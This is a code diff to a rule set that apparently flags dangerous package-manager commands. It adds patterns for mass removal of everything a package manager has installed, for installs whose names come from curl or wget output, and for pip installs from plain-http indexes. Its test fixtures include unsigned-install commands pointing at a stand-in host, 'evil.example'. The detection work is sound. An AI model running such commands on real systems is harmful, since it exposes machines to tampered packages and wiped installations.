@@ -28,6 +28,10 @@ _GROUPS = set_of("core base standard server minimal minimal-environment server-p
 _EVERY = re.compile(r"(?:~i|\?installed|\?essential|~E)\Z")
 
 
+_PLAIN_INDEX = re.compile(r"(?:--(?:extra-)?index-url|-i)[= ]http://(?!localhost|127\.)")
+_ALL_OF_THEM = re.compile(r"\b(?:brew\s+(?:list|leaves|ls)|pip3?\s+(?:freeze|list)|npm\s+ls|gem\s+list)\b(?![^)]*grep)")
+
+
 @rule(
     "SS1701",
     "Removes packages that the machine or its users stand on",
@@ -135,7 +139,7 @@ def removed(call: Invocation) -> Hit | None:
             return dangerous("removes every package")
         if vital := next((package for package in names if essential(package)), ""):
             return dangerous(f"removes {vital}, which the machine needs")
-        if server := next((package for package in names if serving(package)), ""):
+        if server := next((package for package in names if serving(package) or serving(package.rstrip("*"))), ""):
             return dangerous(f"removes {server}, a server that people or data depend on")
         if call.has(
             "--nodeps", "--force-all", "--force-depends", "--allow-remove-essential", "--force-remove-essential"
@@ -183,6 +187,11 @@ def changed(call: Invocation) -> Hit | None:
     words = call.words
     if call.has("--dry-run"):
         return None
+    sources = [part.source for word in call.command.arguments for part in word.unknowns]
+    if words and words[0] in _REMOVING and any(_ALL_OF_THEM.search(source) for source in sources):
+        return dangerous(f"removes everything that {call.name} has installed")
+    if words and words[0] in ("install", "add", "i") and any(re.search(r"\b(?:curl|wget)\b", each) for each in sources):
+        return dangerous("installs whatever a server names")
     if words and (
         words[0] in _REMOVING
         or words[0]
@@ -224,7 +233,7 @@ def changed(call: Invocation) -> Hit | None:
     bad=(
         "apt-get install --allow-unauthenticated x",
         "yum install --nogpgcheck x",
-        "pip install --trusted-host evil.example --index-url http://evil.example x",
+        "pip install --trusted-host evil.example x",
         "zypper --no-gpg-checks in x",
     ),
     good=("apt-get install x", "dnf install x", "pip install x", "apt-key list"),
@@ -239,6 +248,8 @@ def unsigned(call: Invocation) -> Hit | None:
         "--allow-insecure-repositories",
     ):
         return notable("installs packages without looking at their signatures")
-    if call.name == "pip" and re.search(r"--(?:extra-)?index-url[= ]http://|--trusted-host", call.text):
+    if call.name in ("pip", "pip3") and _PLAIN_INDEX.search(call.text):
+        return dangerous("installs packages that anybody on the way can change")
+    if call.name == "pip" and re.search(r"--trusted-host", call.text):
         return notable("installs packages over a line that anybody can change")
     return None
